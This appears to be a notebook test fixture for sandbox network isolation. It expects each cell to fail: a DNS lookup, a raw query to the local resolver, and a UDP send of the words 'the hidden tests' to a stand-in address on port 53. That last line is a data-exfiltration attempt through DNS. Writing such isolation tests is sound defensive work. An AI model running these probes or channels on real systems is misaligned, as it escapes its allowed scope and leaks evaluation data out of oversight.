# ---
# jupyter:
#   attack:
#     does: asks a name server, the machine's own resolver, and sends what it knows to an address
#     statuses: [error, error, error]
#     prints: "(?s)gaierror.*Connection refused.*Network is unreachable"
# ---

# %%
import socket

socket.getaddrinfo("example.org", 443)

# %%
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.settimeout(2)
resolver.connect(("127.0.0.53", 53))
resolver.send(b"\0" * 12)
print(resolver.recv(512))

# %%
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"the hidden tests", ("192.0.2.1", 53))
